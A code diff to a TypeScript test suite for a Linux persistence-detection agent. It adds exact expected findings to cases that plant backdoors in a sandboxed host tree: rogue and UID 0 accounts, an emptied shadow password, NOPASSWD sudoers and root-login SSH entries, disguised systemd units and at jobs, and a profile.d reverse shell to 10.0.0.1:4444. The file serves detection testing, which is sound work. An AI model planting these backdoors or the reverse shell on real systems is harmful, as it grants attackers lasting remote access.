@@ -1,7 +1,9 @@
+import { deepStrictEqual } from 'node:assert/strict';
+import { createHash } from 'node:crypto';
 import { appendFileSync, chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import type { CaseSandbox, DetectionCase } from '../detection-case.js';
-import type { Inputs } from '../../agents/sandbox.js';
+import type { CliEvent, Inputs } from '../../agents/sandbox.js';
 
 // The persistence agent reads every path under its `root` input: a case builds a small host tree in its sandbox
 // (etc/passwd, etc/ssh/sshd_config, etc/systemd/system…) and hands the sandbox as `root`, so /etc/passwd is
@@ -63,8 +65,15 @@ function stockHost(root: string): void {
 
 type Step = (root: string) => void;
 
+/** What the planted run must report, exactly: severity, resource and dedup key of each finding (no volatile ids). */
+type Expected = { severity: string; resource: string; dedup_key: string }[];
+
+const identity = (findings: CliEvent[]): Expected =>
+  findings.map((f) => ({ severity: String(f.severity), resource: String(f.resource), dedup_key: String(f.dedup_key) }))
+    .sort((a, b) => a.resource.localeCompare(b.resource));
+
 /** A case over a stock host tree: `plant` and `benign` change it after the baseline run when `baseline` is set. */
-function hostCase(c: Omit<DetectionCase, 'agent' | 'setup'> & { baseline: boolean; inputs?: Inputs; plant: Step; benign: Step }): DetectionCase {
+function hostCase(c: Omit<DetectionCase, 'agent' | 'setup'> & { baseline: boolean; inputs?: Inputs; plant: Step; benign: Step; expect?: Expected }): DetectionCase {
   return {
     id: c.id,
     techniques: c.techniques,
@@ -80,10 +89,13 @@ function hostCase(c: Omit<DetectionCase, 'agent' | 'setup'> & { baseline: boolea
         plant: () => Promise.resolve(c.plant(dir)),
         benign: () => Promise.resolve(c.benign(dir)),
         cleanup: () => Promise.resolve(),
+        ...(c.expect && { check: (findings: CliEvent[]) => deepStrictEqual(identity(findings), c.expect) }),
       });
     },
   };
 }
+
+const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');
 
 const UNIT = (exec: string): string => `[Unit]\nDescription=D-Bus helper\n\n[Service]\nExecStart=${exec}\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n`;
 
@@ -98,6 +110,7 @@ export const cases: DetectionCase[] = [
     baseline: true,
     inputs: { account_ignore: ['ansible'] },
     plant: (r) => appendFileSync(join(r, 'etc/passwd'), 'mallory:x:1001:1001::/home/mallory:/bin/bash\n'),
+    expect: [{ severity: 'MEDIUM', resource: 'user:mallory', dedup_key: 'account:1001:1001:/home/mallory:/bin/bash' }],
     benign: (r) => appendFileSync(join(r, 'etc/passwd'), 'ansible:x:1002:1002::/home/ansible:/bin/bash\n'),
   }),
   hostCase({
@@ -108,6 +121,7 @@ export const cases: DetectionCase[] = [
     clean: 'a new ordinary account (UID 1001)',
     baseline: false,
     plant: (r) => appendFileSync(join(r, 'etc/passwd'), 'toor:x:0:0::/root:/bin/sh\n'),
+    expect: [{ severity: 'HIGH', resource: 'user:toor', dedup_key: 'uid0-account' }],
     benign: (r) => appendFileSync(join(r, 'etc/passwd'), 'bob:x:1001:1001::/home/bob:/bin/bash\n'),
   }),
   hostCase({
@@ -118,6 +132,7 @@ export const cases: DetectionCase[] = [
     clean: 'a locked account (! in the password field)',
     baseline: false,
     plant: (r) => writeFileSync(join(r, 'etc/shadow'), SHADOW.replace('alice:!:', 'alice::')),
+    expect: [{ severity: 'HIGH', resource: 'user:alice', dedup_key: 'empty-password:shadow' }],
     benign: (r) => appendFileSync(join(r, 'etc/shadow'), 'bob:!:19000:0:99999:7:::\n'),
   }),
   hostCase({
@@ -138,6 +153,7 @@ export const cases: DetectionCase[] = [
     clean: 'a sudoers.d file granting one command without a password',
     baseline: true,
     plant: (r) => put(r, 'etc/sudoers.d/90-mallory', 'mallory ALL=(ALL) NOPASSWD: ALL\n', 0o440),
+    expect: [{ severity: 'HIGH', resource: 'path:/etc/sudoers.d/90-mallory', dedup_key: 'sudoers:mallory ALL=(ALL) NOPASSWD: ALL' }],
     benign: (r) => put(r, 'etc/sudoers.d/nginx', 'deploy ALL=(root) NOPASSWD: /usr/bin/systemctl reload nginx\n', 0o440),
   }),
   hostCase({
@@ -164,6 +180,7 @@ export const cases: DetectionCase[] = [
       put(r, 'etc/ssh/sshd_config.d/50-root.conf', 'PermitRootLogin yes\n');
       appendFileSync(join(r, 'etc/ssh/sshd_config'), 'PermitRootLogin no\n');
     },
+    expect: [{ severity: 'HIGH', resource: 'path:/etc/ssh/sshd_config.d/50-root.conf', dedup_key: 'sshd:permitrootlogin:global' }],
     benign: (r) => put(r, 'etc/ssh/sshd_config.d/50-root.conf', 'PermitRootLogin prohibit-password\n'),
   }),
   hostCase({
@@ -207,6 +224,10 @@ export const cases: DetectionCase[] = [
       put(r, 'etc/systemd/system/dbus-helper.service', UNIT('/usr/local/bin/dbus-helper'));
       link(r, 'etc/systemd/system/multi-user.target.wants/dbus-helper.service', '/etc/systemd/system/dbus-helper.service');
     },
+    expect: [
+      { severity: 'MEDIUM', resource: 'path:/etc/systemd/system/dbus-helper.service', dedup_key: `systemd-unit:${sha256(UNIT('/usr/local/bin/dbus-helper'))}` },
+      { severity: 'MEDIUM', resource: 'path:/etc/systemd/system/multi-user.target.wants/dbus-helper.service', dedup_key: 'systemd-unit:/etc/systemd/system/dbus-helper.service' },
+    ],
     benign: (r) => {
       put(r, 'usr/lib/systemd/system/ssh.service', SSH_UNIT);
       put(r, 'etc/systemd/system/README', 'local units go here\n');
@@ -255,6 +276,7 @@ export const cases: DetectionCase[] = [
     clean: 'a service that only passes a /tmp path as an argument',
     baseline: false,
     plant: (r) => put(r, 'etc/systemd/system/kworker.service', UNIT('/dev/shm/.x/kworker --quiet')),
+    expect: [{ severity: 'HIGH', resource: 'path:/etc/systemd/system/kworker.service, binary:/dev/shm/.x/kworker', dedup_key: 'systemd-exec-writable' }],
     benign: (r) => put(r, 'etc/systemd/system/app.service', UNIT('/usr/local/bin/app --lock /tmp/app.lock').replace('[Service]\n', '[Service]\nExecStartPre=-/bin/rm -f /tmp/app.lock\n')),
   }),
   hostCase({
@@ -289,6 +311,7 @@ export const cases: DetectionCase[] = [
     clean: 'a profile.d script that sets PATH and mentions /dev/tcp only in a comment',
     baseline: false,
     plant: (r) => put(r, 'etc/profile.d/zz-update.sh', '(bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 &) 2>/dev/null\n'),
+    expect: [{ severity: 'HIGH', resource: 'path:/etc/profile.d/zz-update.sh', dedup_key: 'startup-suspicious:dev-tcp' }],
     benign: (r) => put(r, 'etc/profile.d/opt-path.sh', '# never use /dev/tcp/ here\nexport PATH="$PATH:/opt/tool/bin"\n'),
   }),
   hostCase({
@@ -342,6 +365,7 @@ export const cases: DetectionCase[] = [
     clean: "atd's job counter (.SEQ) advancing",
     baseline: true,
     plant: (r) => put(r, 'var/spool/cron/atjobs/a0000b01a8e2c4', '#!/bin/sh\n# atrun uid=0 gid=0\ncd /root || exit 1\n/tmp/.x\n', 0o700),
+    expect: [{ severity: 'MEDIUM', resource: 'path:/var/spool/cron/atjobs/a0000b01a8e2c4', dedup_key: `at-job:${sha256('#!/bin/sh\n# atrun uid=0 gid=0\ncd /root || exit 1\n/tmp/.x\n')}` }],
     benign: (r) => put(r, 'var/spool/cron/atjobs/.SEQ', '0000b\n', 0o600),
   }),
 ];
